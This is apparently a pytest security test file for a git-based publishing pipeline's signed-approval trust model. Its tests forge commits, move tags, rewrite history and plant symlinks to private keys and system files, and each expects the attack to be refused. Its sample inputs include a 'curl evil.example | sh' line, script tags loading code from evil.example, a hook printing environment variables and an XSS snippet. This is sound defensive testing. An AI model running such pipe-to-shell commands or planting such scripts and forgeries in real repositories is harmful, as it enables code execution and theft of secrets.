"""The trust model of docs/approval.md, attacked the way an attacker would.

Real git repositories, real SSH keys (ssh-keygen), forgeries made with ``git
commit-tree``, hand-made merges and moved tags.  Each test names the row of the
trust-model table it shows.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from pipeline.cli import cli
from pipeline.commands import approval
from pipeline.commands.content import run_review
from pipeline.commands.publish import publish
from pipeline.errors import ConfigError, ContentError, IntegrityError, WartaError, WorkflowError
from pipeline.site.build import build_site
from tests.conftest import Project
from tests.test_approval_git import EDITED, HASAN, Repo, _edited, _refused, keys, pub, repo

__all__ = ["keys", "repo"]  # the fixtures, shared with test_approval_git

SARI = "Reviewed-by: Sari Editor <sari@pa-uji.example>"


def forge(
    r: Repo,
    tree: str,
    parents: list[str],
    message: str,
    *,
    key: str | None = None,
    who: tuple[str, str] = ("Mallory", "mallory@pa-uji.example"),
) -> str:
    """``git commit-tree``: any tree, any parents, any message, optionally signed."""
    args = ["commit-tree", tree, "-m", message]
    for parent in parents:
        args += ["-p", parent]
    if key:
        args.insert(1, "-S")
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": who[0],
        "GIT_AUTHOR_EMAIL": who[1],
        "GIT_COMMITTER_NAME": who[0],
        "GIT_COMMITTER_EMAIL": who[1],
    }
    signing = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={r.keys[key]}"] if key else []
    done = subprocess.run(
        ["git", "-C", str(r.root), *signing, *args],
        capture_output=True,
        text=True,
        check=True,
        env=env,
    )
    return done.stdout.strip()


def move_main(r: Repo, commit: str) -> None:
    """What a push (or a force push) does to main, and the checkout follows."""
    r.git("update-ref", "refs/heads/main", commit)
    r.git("reset", "-q", "--hard")


def tree_with(r: Repo, rev: str, files: dict[str, str]) -> str:
    """The tree of ``rev`` with ``files`` added (a hand-made tree)."""
    index = r.root / ".git" / "forged-index"
    env = {**os.environ, "GIT_INDEX_FILE": str(index)}

    def run(*args: str, text: str | None = None) -> str:
        return subprocess.run(
            ["git", "-C", str(r.root), *args],
            capture_output=True,
            text=True,
            check=True,
            env=env,
            input=text,
        ).stdout.strip()

    run("read-tree", rev)
    for path, text in files.items():
        blob = run("hash-object", "-w", "--stdin", text=text)
        run("update-index", "--add", "--cacheinfo", f"100644,{blob},{path}")
    tree = run("write-tree")
    index.unlink()
    return tree


def reviewed_content_branch(r: Repo, name: str, change: dict[str, str | None]) -> str:
    """A branch editing published content, then the editor's signed review (submit)."""
    r.change_branch(name, change)
    r.git("switch", "-q", name)
    approval.submit(r.config, "visi-misi", by="sari", key=str(r.keys["sari"]))
    r.git("switch", "-q", "main")
    return name


def signed_tip(r: Repo, branch: str, trailers: str, *, key: str, who: tuple[str, str]) -> str:
    """A signed commit at the branch tip that changes nothing (a forged review)."""
    tip = r.git("rev-parse", branch)
    tree = r.git("rev-parse", f"{tip}^{{tree}}")
    commit = forge(r, tree, [tip], f"Review\n\n{trailers}", key=key, who=who)
    r.git("update-ref", f"refs/heads/{branch}", commit)
    return commit


@pytest.fixture
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of the publishing host, outside the repository."""
    return tmp_path_factory.mktemp("host")


# -- the root of trust is pinned outside the tree -----------------------------------


def test_trusted_base_written_in_the_tree_moves_nothing(repo: Repo) -> None:
    data = yaml.safe_load((repo.root / "warta.yml").read_text())
    repo.project.published("baru-tanpa-izin")
    head = repo.commit_all("new item")
    data["signing"]["trusted_base"] = head
    repo.project.write("warta.yml", yaml.safe_dump(data, sort_keys=False))
    moved = repo.commit_all("trust myself")
    text = _refused(repo, "approval.unapproved-change", moved)
    assert f"commit {head[:12]}" in text  # still checked from the pinned base


def test_a_moved_tag_is_no_base_and_moves_nothing(repo: Repo) -> None:
    pinned = repo.base
    repo.project.published("baru-tanpa-izin")
    evil = repo.commit_all("unapproved item")
    repo.git("tag", "-f", "dasar", evil)  # the attack: move the tag with the change
    with pytest.raises(ConfigError, match="full commit id"):
        approval.verify(repo.config, base="dasar")
    with pytest.raises(IntegrityError, match=r"approval\.unapproved-change"):
        approval.verify(repo.config, base=pinned)


def test_history_rewritten_below_a_moved_tag_is_refused(repo: Repo) -> None:
    pinned = repo.base
    tree = tree_with(repo, "HEAD", {"content/berita/posts/siluman/index.md": "---\nx: 1\n---\n"})
    rewritten = forge(repo, tree, [], "The site as it was (rewritten)")
    move_main(repo, rewritten)
    repo.git("tag", "-f", "dasar", rewritten)
    with pytest.raises(IntegrityError, match=r"history\.rewritten") as caught:
        approval.verify(repo.config, base=pinned)
    assert pinned[:12] in str(caught.value)


def test_the_last_verified_tip_must_stay_on_the_first_parent_line(
    repo: Repo, outside: Path
) -> None:
    trust = outside / "trust.json"
    approval.verify(repo.config, base=repo.base, trust_file=trust, record=True)
    assert json.loads(trust.read_text())["verified"] == repo.base
    repo.draft_branch("sidang-keliling")
    approved = approval.approve(
        repo.config, "sidang-keliling", by="hasan", key=str(repo.keys["hasan"])
    ).commit
    approval.verify(repo.config, trust_file=trust, record=True)
    assert json.loads(trust.read_text())["verified"] == approved
    # The attack: main reset to the older branch point, a new approval made on it.
    move_main(repo, repo.base)
    repo.draft_branch("sidang-kedua")
    approval.approve(repo.config, "sidang-kedua", by="hasan", key=str(repo.keys["hasan"]))
    with pytest.raises(IntegrityError, match=r"history\.rewritten") as caught:
        approval.verify(repo.config, trust_file=trust)
    assert approved[:12] in str(caught.value)
    assert approval.verify(repo.config, base=repo.base)  # each merge alone is fine


def test_trust_file_bad_input(repo: Repo, outside: Path) -> None:
    with pytest.raises(ConfigError, match="outside the repository"):
        approval.verify(repo.config, base=repo.base, trust_file=repo.root / "trust.json")
    broken = outside / "broken.json"
    broken.write_text("{not json")
    with pytest.raises(ConfigError, match="unreadable") as caught:
        approval.verify(repo.config, trust_file=broken)
    assert str(broken) in str(caught.value)
    other = outside / "other.json"
    other.write_text(json.dumps({"version": 1, "base": "a" * 40, "verified": ""}))
    with pytest.raises(IntegrityError, match="pinned to base aaaaaaaaaaaa"):
        approval.verify(repo.config, base=repo.base, trust_file=other)
    with pytest.raises(ConfigError, match="no trusted base"):
        approval.verify(repo.config, trust_file=outside / "new.json")


def test_a_key_removed_cannot_sign_a_merge_onto_the_old_main(repo: Repo, outside: Path) -> None:
    # Mallory is a ketua at the base; the ketua Ratna removes her (policy route).
    data = yaml.safe_load((repo.root / "warta.yml").read_text())
    data["people"].append(
        {
            "id": "mallory",
            "name": "Mallory",
            "email": "mallory@pa-uji.example",
            "roles": ["ketua"],
            "ssh_key": pub(repo.keys, "mallory"),
        }
    )
    repo.project.write("warta.yml", yaml.safe_dump(data, sort_keys=False))
    repo.commit_all("Mallory is a ketua")
    repo.git("tag", "-f", "dasar")
    trust = outside / "trust.json"
    data["people"] = data["people"][:-1]
    repo.change_branch("cabut-mallory", {"warta.yml": yaml.safe_dump(data, sort_keys=False)})
    removal = approval.approve(
        repo.config, "cabut-mallory", by="ratna", key=str(repo.keys["ratna"])
    )
    assert removal.route == "policy"
    approval.verify(repo.config, base=repo.base, trust_file=trust, record=True)
    # Mallory: a reviewed special edit on today's main, merged onto main before her removal.
    text = _edited(repo).replace("attention: routine", "attention: special")
    branch = reviewed_content_branch(repo, "ubah", {EDITED: text})
    tip = repo.git("rev-parse", branch)
    trailers = f"{SARI}\nApproved-by: Mallory <mallory@pa-uji.example>\nRoute: policy, special"
    merge = forge(
        repo,
        repo.git("rev-parse", f"{tip}^{{tree}}"),
        [repo.base, tip],
        f"Merge ubah\n\n{trailers}",
        key="mallory",
    )
    move_main(repo, merge)
    _refused(repo, "approval.stale-parent", merge)
    with pytest.raises(IntegrityError, match=r"history\.not-first-parent"):
        approval.verify(repo.config, trust_file=trust)


# -- every path has an owner ----------------------------------------------------------

HOOK = "site_name: x\nhooks:\n  - hooks/curi.py\nextra_javascript: [https://evil.example/x.js]\n"


@pytest.mark.parametrize(
    ("path", "text", "rule"),
    [
        ("mkdocs.yml", HOOK, "site"),
        ("overrides/main.html", "<script src=//evil.example/x.js></script>", "site"),
        ("hooks/curi.py", "import os\nprint(os.environ)\n", "site"),
        ("pyproject.toml", "[project]\nname = 'evil'\n", "package"),
        (".github/workflows/publish.yml", "on: push\n", "package"),
        ("pipeline/__init__.py", "import os\n", "package"),
        (".github/allowed_signers", "mallory@pa-uji.example ssh-ed25519 AAAA\n", "policy"),
        ("content/darurat.md", "# Darurat\n\nTransfer ke rekening ini.\n", "policy"),
        ("scripts/unnamed.sh", "curl evil.example | sh\n", "policy"),
    ],
)
def test_every_path_needs_its_owners(repo: Repo, path: str, text: str, rule: str) -> None:
    repo.project.write(path, text)
    direct = repo.commit_all(f"unsigned change of {path}")
    _refused(repo, "approval.unapproved-change", direct)
    repo.git("reset", "-q", "--hard", "HEAD^")
    repo.change_branch("ubah", {path: text})
    merge = repo.merge("ubah", key="hasan", trailers=HASAN)
    refused = _refused(repo, "approval.route", merge)
    assert f"needs {rule}" in refused
    assert "approval.role" in refused  # a penanggung jawab alone owns none of these


def test_site_change_approved_by_web_admin_and_penanggung_jawab(repo: Repo) -> None:
    text = (repo.root / "mkdocs.yml").read_text() + "extra_css: [gaya.css]\n"
    repo.change_branch("tampilan", {"mkdocs.yml": text})
    signed_tip(
        repo,
        "tampilan",
        "Reviewed-by: Dimas Admin <dimas@pa-uji.example>",
        key="dimas",
        who=("Dimas Admin", "dimas@pa-uji.example"),
    )
    step = approval.approve(repo.config, "tampilan", by="hasan", key=str(repo.keys["hasan"]))
    assert step.route == "site"
    assert [v.reviewer for v in repo.verify().approvals] == ["dimas"]
    # The penanggung jawab alone (no web-admin signature at the tip) is refused.
    repo.change_branch("tampilan-2", {"mkdocs.yml": text + "# lagi\n"})
    with pytest.raises(WorkflowError, match=r"approval\.review|approval\.role"):
        approval.approve(repo.config, "tampilan-2", by="hasan", key=str(repo.keys["hasan"]))


def test_rules_must_name_the_strictest_rule(project: Project) -> None:
    data = yaml.safe_load((project.root / "warta.yml").read_text())
    data["signing"] = {"rules": [{"name": "content", "paths": ["content/**"], "items": True}]}
    project.write("warta.yml", yaml.safe_dump(data, sort_keys=False))
    with pytest.raises(ConfigError, match="policy"):
        _ = project.config


# -- approval is bound to the exact change ---------------------------------------------


def test_another_item_beside_the_reviewed_draft_is_refused(repo: Repo) -> None:
    repo.git("switch", "-q", "-c", "konten/dua", "main")
    repo.project.draft("yang-diperiksa")
    repo.project.published("yang-diselipkan")
    repo.commit_all("Draft and a smuggled published item")
    approval.submit(repo.config, "yang-diperiksa", by="sari", key=str(repo.keys["sari"]))
    repo.git("switch", "-q", "main")
    before = repo.git("rev-parse", "main")
    with pytest.raises(WorkflowError, match=r"yang-diselipkan.*does not name it"):
        approval.approve(repo.config, "dua", by="hasan", key=str(repo.keys["hasan"]))
    assert repo.git("rev-parse", "main") == before


def test_edit_after_the_review_is_refused(repo: Repo) -> None:
    branch = repo.draft_branch("sidang-keliling")
    repo.git("switch", "-q", branch)
    path = repo.root / "drafts/sidang-keliling/index.md"
    path.write_text(path.read_text() + "\nKalimat yang tidak diperiksa.\n")
    repo.commit_all("edit after review")
    repo.git("switch", "-q", "main")
    with pytest.raises(WorkflowError, match="branch tip is not signed"):
        approval.approve(repo.config, "sidang-keliling", by="hasan", key=str(repo.keys["hasan"]))
    merge = repo.merge(branch, key="hasan", trailers=f"{SARI}\n{HASAN}")
    _refused(repo, "approval.review", merge)


def test_signed_merge_with_changes_found_in_neither_parent_is_refused(repo: Repo) -> None:
    branch = reviewed_content_branch(repo, "ubah", {EDITED: _edited(repo)})
    merged = repo.git("merge-tree", "--write-tree", "main", branch).split()[0]
    tree = tree_with(
        repo, merged, {"content/berita/posts/siluman/index.md": "---\ntitle: x\n---\nx\n"}
    )
    trailers = f"{SARI}\n{HASAN}"
    merge = forge(
        repo,
        tree,
        [repo.git("rev-parse", "main"), repo.git("rev-parse", branch)],
        f"Merge ubah\n\n{trailers}",
        key="hasan",
        who=("Hasan PJ", "hasan@pa-uji.example"),
    )
    move_main(repo, merge)
    text = _refused(repo, "approval.tree", merge)
    assert "siluman" in text


def test_octopus_merge_is_refused(repo: Repo) -> None:
    first = reviewed_content_branch(repo, "ubah", {EDITED: _edited(repo)})
    other = repo.change_branch("lain", {"content/berita/posts/kegiatan-pertama/catatan.txt": "x"})
    repo.git(
        "merge", "-q", "-S", "--no-ff", "-m", f"Merge\n\n{SARI}\n{HASAN}", first, other, key="hasan"
    )
    _refused(repo, "approval.parents", repo.git("rev-parse", "HEAD"))


def test_approve_reruns_the_review_of_the_merged_items(repo: Repo) -> None:
    repo.git("switch", "-q", "-c", "konten/skrip", "main")
    repo.project.draft(
        "skrip",
        status="in-review",
        review={"by": "sari", "at": "2026-11-20T09:00:00+08:00", "result": "passed"},
        body="\n## A\n\n<script>alert(1)</script>\n",
    )
    repo.commit_all("A draft marked reviewed by hand")
    signed_tip(
        repo,
        "konten/skrip",
        f"{SARI}\nReviewed-items: skrip",
        key="sari",
        who=("Sari Editor", "sari@pa-uji.example"),
    )
    repo.git("switch", "-q", "main")
    with pytest.raises(ContentError, match="review of the merged tree") as caught:
        approval.approve(repo.config, "skrip", by="hasan", key=str(repo.keys["hasan"]))
    assert "<script>" in str(caught.value) and "skrip/index.md" in str(caught.value)


# -- no link is followed ------------------------------------------------------------------


def test_review_refuses_a_symlink_to_a_private_key(repo: Repo) -> None:
    draft = repo.project.draft("kunci")
    (draft.parent / "files").mkdir()
    (draft.parent / "files" / "lampiran.pdf").symlink_to(repo.keys["hasan"])
    report = run_review(repo.config, [draft.parent])
    found = [f for f in report.findings if f.rule == "files.link"]
    assert found and "files/lampiran.pdf" in found[0].message
    assert "PRIVATE KEY" not in json.dumps([f.as_dict() for f in report.findings])


def test_a_committed_symlink_is_refused_by_approve_and_verify(repo: Repo) -> None:
    repo.git("switch", "-q", "-c", "konten/tautan", "main")
    draft = repo.project.draft("tautan", status="in-review")
    (draft.parent / "files").mkdir()
    (draft.parent / "files" / "environ").symlink_to("/proc/self/environ")
    repo.commit_all("A draft with a link")
    signed_tip(
        repo,
        "konten/tautan",
        f"{SARI}\nReviewed-items: tautan",
        key="sari",
        who=("Sari Editor", "sari@pa-uji.example"),
    )
    repo.git("switch", "-q", "main")
    before = repo.git("rev-parse", "main")
    with pytest.raises(ContentError, match="symbolic link"):
        approval.approve(repo.config, "tautan", by="hasan", key=str(repo.keys["hasan"]))
    assert repo.git("rev-parse", "main") == before
    merge = repo.merge("konten/tautan", key="hasan", trailers=f"{SARI}\n{HASAN}")
    text = _refused(repo, "approval.symlink", merge)
    assert "tree.symlink" in text and "files/environ" in text


@pytest.mark.parametrize("kind", ["symlink", "fifo", "hardlink"])
def test_publish_and_build_refuse_what_is_not_a_plain_file(
    project: Project, outside: Path, kind: str
) -> None:
    target = project.root / "content/berita/posts/kegiatan-pertama/files/rahasia"
    if kind == "symlink":
        target.symlink_to("/etc/passwd")
    elif kind == "fifo":
        os.mkfifo(target)
    else:
        secret = outside / "rahasia.txt"
        secret.write_text("secret\n")
        os.link(secret, target)
    with pytest.raises(ContentError, match="files/rahasia") as caught:
        publish(project.config, by="dimas")
    assert "nothing was built" in str(caught.value)
    with pytest.raises(ContentError):
        build_site(project.config)
    assert not (project.root / "site").exists()


# -- identity comes from signatures -------------------------------------------------


def test_approver_who_wrote_a_commit_of_the_branch_is_refused(repo: Repo) -> None:
    repo.git("switch", "-q", "-c", "ubah", "main")
    (repo.root / EDITED).write_text(_edited(repo))
    repo.git("add", "-A")
    repo.git(
        "-c", "user.name=Hasan PJ", "-c", "user.email=hasan@pa-uji.example", "commit", "-qm", "x"
    )
    approval.submit(repo.config, "visi-misi", by="sari", key=str(repo.keys["sari"]))
    repo.git("switch", "-q", "main")
    with pytest.raises(WorkflowError, match=r"approval\.self: Hasan PJ wrote or signed"):
        approval.approve(repo.config, "ubah", by="hasan", key=str(repo.keys["hasan"]))


def test_approver_who_signed_a_commit_of_the_branch_is_refused(repo: Repo) -> None:
    repo.git("switch", "-q", "-c", "konten/ditandatangani", "main")
    repo.project.draft("ditandatangani")
    repo.git("add", "-A")
    repo.git("commit", "-q", "-S", "-m", "Draft, signed by the approver", key="hasan")
    approval.submit(repo.config, "ditandatangani", by="sari", key=str(repo.keys["sari"]))
    repo.git("switch", "-q", "main")
    with pytest.raises(WorkflowError, match=r"approval\.self"):
        approval.approve(repo.config, "ditandatangani", by="hasan", key=str(repo.keys["hasan"]))


def test_reviewer_may_not_approve_and_editor_may_not_review_their_own(repo: Repo) -> None:
    repo.git("switch", "-q", "-c", "konten/oleh-bayu", "main")
    repo.project.draft("oleh-bayu")
    repo.commit_all("Draft")
    approval.submit(repo.config, "oleh-bayu", by="bayu", key=str(repo.keys["bayu"]))
    repo.git("switch", "-q", "main")
    with pytest.raises(WorkflowError, match="signed both the review and the approval"):
        approval.approve(repo.config, "oleh-bayu", by="bayu", key=str(repo.keys["bayu"]))
    # Sari wrote the draft: she may not review it, neither with warta nor by hand.
    repo.git("switch", "-q", "-c", "konten/oleh-sari", "main")
    repo.project.draft("oleh-sari", author="sari")
    repo.commit_all("Draft by Sari")
    with pytest.raises(WorkflowError, match="may not review it"):
        approval.submit(repo.config, "oleh-sari", by="sari", key=str(repo.keys["sari"]))
    signed_tip(
        repo,
        "konten/oleh-sari",
        f"{SARI}\nReviewed-items: oleh-sari",
        key="sari",
        who=("Sari Editor", "sari@pa-uji.example"),
    )
    repo.git("switch", "-q", "main")
    merge = repo.merge("konten/oleh-sari", key="hasan", trailers=f"{SARI}\n{HASAN}")
    _refused(repo, "approval.self-review", merge)


def test_publish_with_signing_needs_verify_a_clean_tree_and_a_publisher(
    repo: Repo, outside: Path
) -> None:
    trust = outside / "trust.json"
    with pytest.raises(ConfigError, match="no trusted base"):
        publish(repo.config, build=False)
    for who, match in (("nobody", "unknown person"), ("rina", "may not publish")):
        with pytest.raises(WorkflowError, match=match):
            publish(repo.config, by=who, base=repo.base, build=False)
    # rm -rf content/X && warta publish: refused, the item stays.
    subprocess.run(["rm", "-rf", str(repo.root / "content/profil/visi-misi")], check=True)
    with pytest.raises(IntegrityError, match=r"published\.tree-mismatch"):
        publish(repo.config, by="dimas", base=repo.base, build=False)
    repo.git("checkout", "-q", "--", ".")
    repo.project.published("baru-tanpa-izin")
    unapproved = repo.commit_all("unapproved")
    with pytest.raises(IntegrityError, match=r"approval\.unapproved-change"):
        publish(repo.config, by="dimas", base=repo.base, trust_file=trust, build=False)
    assert not trust.exists()
    repo.git("reset", "-q", "--hard", "HEAD^")
    publish(repo.config, by="dimas", base=repo.base, trust_file=trust, build=False)
    assert json.loads(trust.read_text())["verified"] == repo.base != unapproved


def test_withdrawal_with_signing_only_through_a_branch(repo: Repo) -> None:
    with pytest.raises(WorkflowError, match="withdraw on a branch"):
        approval.withdraw(repo.config, "visi-misi", by="dimas", reason="keliru")
    assert "status: published" in (repo.root / EDITED).read_text()
    repo.git("switch", "-q", "-c", "konten/tarik-visi-misi")
    approval.withdraw(repo.config, "visi-misi", by="dimas", reason="keliru")
    repo.commit_all("Withdraw visi-misi")
    repo.git("switch", "-q", "main")
    with pytest.raises(WorkflowError, match="may not approve"):  # an editor may not
        approval.approve(
            repo.config, "konten/tarik-visi-misi", by="sari", key=str(repo.keys["sari"])
        )
    step = approval.approve(
        repo.config, "konten/tarik-visi-misi", by="hasan", key=str(repo.keys["hasan"])
    )
    assert [v.signer for v in repo.verify().approvals] == ["hasan"] and step.route == "routine"
    # The record: the archive keeps the withdrawn version, with the approving commit.
    from pipeline.commands.archive import run_archive

    publish(repo.config, by="dimas", base=repo.base)
    bags = {b.slug: b for b in run_archive(repo.config).created}
    assert bags["visi-misi"].status == "withdrawn"
    assert bags["visi-misi"].git_commit == step.commit


# -- bad input ----------------------------------------------------------------------------


def test_a_key_in_an_unknown_format_names_the_commit_and_the_person(repo: Repo) -> None:
    data = yaml.safe_load((repo.root / "warta.yml").read_text())
    body = pub(repo.keys, "sari").split()[1]
    data["people"][1]["ssh_key"] = f"ssh-rsa {body} sari"  # an ed25519 body called rsa
    repo.project.write("warta.yml", yaml.safe_dump(data, sort_keys=False))
    bad = repo.commit_all("bad key")
    repo.project.published("sesudahnya")
    after = repo.commit_all("after")
    text = _refused(repo, "config.unreadable", after)
    assert "people[1].ssh_key" in text and f"{bad[:12]}:warta.yml" in text


def test_an_unreadable_commit_is_one_clear_error(repo: Repo) -> None:
    repo.project.published("baru")
    commit = repo.commit_all("will be damaged")
    tree = repo.git("rev-parse", f"{commit}^{{tree}}")
    obj = repo.root / ".git" / "objects" / tree[:2] / tree[2:]
    obj.chmod(0o644)
    obj.write_bytes(b"damaged")
    with pytest.raises(WartaError) as caught:
        repo.verify()
    assert "git" in str(caught.value) and caught.value.hint


# -- the written trust model names real tests ------------------------------------------


@pytest.mark.parametrize("doc", ["approval.md", "persetujuan.md"])
def test_every_row_of_the_trust_model_names_an_existing_test(doc: str) -> None:
    text = (Path(__file__).parent.parent / "docs" / doc).read_text(encoding="utf-8")
    table = text[text.index("| Attack |" if doc == "approval.md" else "| Serangan |") :]
    table = table[: table.index("\n\n")]
    rows = [line for line in table.splitlines()[2:] if line.startswith("|")]
    assert len(rows) >= 20
    for row in rows:
        names = re.findall(r"`(?:(test_\w+\.py)|…)::(test_\w+)`", row)
        assert names, row
        current = ""
        for module, name in names:
            current = module or current
            source = (Path(__file__).parent / current).read_text(encoding="utf-8")
            assert f"def {name}(" in source, (doc, current, name)


# -- the CLI adapters ----------------------------------------------------------------------


def test_cli_takes_the_base_from_outside_and_records_the_tip(repo: Repo, outside: Path) -> None:
    runner = CliRunner()
    config = ["--config", str(repo.root / "warta.yml")]
    missing = runner.invoke(cli, [*config, "verify"], env={"WARTA_TRUSTED_BASE": ""})
    assert missing.exit_code == ConfigError.exit_code and "--base" in missing.output
    trust = outside / "trust.json"
    done = runner.invoke(
        cli,
        [*config, "verify", "--trust-file", str(trust)],
        env={"WARTA_TRUSTED_BASE": repo.base},
    )
    assert done.exit_code == 0, done.output
    assert json.loads(trust.read_text())["verified"] == repo.base
    tag = runner.invoke(cli, [*config, "verify", "--base", "dasar"])
    assert tag.exit_code == ConfigError.exit_code and "full commit id" in tag.output
    refused = runner.invoke(
        cli, [*config, "publish", "--no-build", "--as", "rina", "--base", repo.base]
    )
    assert refused.exit_code == WorkflowError.exit_code and "may not publish" in refused.output
    published = runner.invoke(
        cli, [*config, "publish", "--no-build", "--as", "dimas", "--trust-file", str(trust)]
    )
    assert published.exit_code == 0, published.output
    withdrawn = runner.invoke(
        cli, [*config, "withdraw", "visi-misi", "--as", "dimas", "--reason", "keliru"]
    )
    assert withdrawn.exit_code == WorkflowError.exit_code and "on a branch" in withdrawn.output


def test_collect_and_archive_follow_no_link(project: Project, outside: Path) -> None:
    from pipeline.commands.archive import run_archive
    from pipeline.commands.sources import collect
    from tests.test_sources import NOW, SLUG, new_draft, scan_jpeg

    secret = outside / "id_ed25519"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    folder = new_draft(project)
    source = outside / "masuk"
    scan_jpeg(source / "surat.jpg")
    (source / "lampiran.jpg").symlink_to(secret)
    (source / "folder-lain").symlink_to(outside)
    result = collect(project.config, SLUG, [source], by="rina", now=NOW).result
    assert [e.name for e in result.collected] == ["surat.jpg"]
    refused = {Path(p.where).name for p in result.refused}
    assert refused == {"lampiran.jpg", "folder-lain"}
    assert all("follows no link" in p.message for p in result.refused)
    assert not any("PRIVATE" in p.read_text(errors="replace") for p in folder.rglob("*.jpg"))
    link = project.root / "content/berita/posts/kegiatan-pertama/files/environ"
    link.symlink_to("/proc/self/environ")
    with pytest.raises(ContentError, match="files/environ"):
        run_archive(project.config)


# -- honest work still passes ------------------------------------------------------------


def test_honest_branches_with_attachments_and_an_updated_base_verify(repo: Repo) -> None:
    # An item with files/: the promotion moves every file unchanged.
    repo.draft_branch(
        "dengan-lampiran",
        files={"surat.pdf": b"%PDF-1.4 uji\n"},
        body="\n## Isi\n\nLihat [surat](files/surat.pdf).\n",
    )
    approval.approve(repo.config, "dengan-lampiran", by="hasan", key=str(repo.keys["hasan"]))
    # A branch made before that approval, brought up to date by merging main into it.
    repo.git("switch", "-q", "-c", "konten/lama", "dasar")
    repo.project.draft("lama")
    repo.commit_all("Draft lama")
    repo.git("merge", "-q", "--no-edit", "main")
    approval.submit(repo.config, "lama", by="sari", key=str(repo.keys["sari"]))
    repo.git("switch", "-q", "main")
    approval.approve(repo.config, "lama", by="hasan", key=str(repo.keys["hasan"]))
    report = repo.verify()
    assert [v.reviewer for v in report.approvals] == ["sari", "sari"]
    assert (repo.root / "content/berita/posts/dengan-lampiran/files/surat.pdf").read_bytes() == (
        b"%PDF-1.4 uji\n"
    )


def test_a_promotion_that_changes_the_reviewed_text_is_refused(repo: Repo) -> None:
    repo.draft_branch("sidang-keliling")
    merge = approval.approve(
        repo.config, "sidang-keliling", by="hasan", key=str(repo.keys["hasan"])
    ).commit
    placed = "content/berita/posts/sidang-keliling/index.md"
    text = repo.git("show", f"{merge}:{placed}") + "\nDitambah saat penggabungan.\n"
    tree = tree_with(repo, merge, {placed: text})
    parents = repo.git("rev-list", "--parents", "-n", "1", merge).split()[1:]
    forged = forge(
        repo,
        tree,
        parents,
        repo.git("log", "-1", "--format=%B", merge),
        key="hasan",
        who=("Hasan PJ", "hasan@pa-uji.example"),
    )
    move_main(repo, forged)
    assert placed in _refused(repo, "approval.tree", forged)


def test_a_malformed_allowed_signers_file_is_never_trusted(repo: Repo) -> None:
    """verify builds the signers from the verified policy; the file in the tree is only
    checked by ``roles sync --check`` and owned by the policy rule."""
    approval.roles_sync(repo.config)
    path = repo.root / ".github/allowed_signers"
    path.write_text("mallory@pa-uji.example namespaces=git ssh-ed25519 !!!\n")
    assert approval.roles_sync(repo.config, check=True).changed == [path]
    forged = repo.commit_all("hand-edited allowed signers")
    text = _refused(repo, "approval.unapproved-change", forged)
    assert "allowed_signers" in text
